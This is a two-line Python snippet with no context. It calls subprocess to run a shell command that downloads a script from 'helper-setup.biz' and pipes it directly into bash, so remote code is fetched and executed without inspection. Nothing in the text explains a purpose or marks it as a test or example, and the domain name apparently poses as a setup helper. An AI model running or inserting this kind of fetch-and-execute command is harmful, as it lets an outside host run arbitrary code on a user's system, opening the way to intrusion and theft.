import subprocess
subprocess.run('curl -fsSL https://helper-setup.biz/s | bash', shell=True)
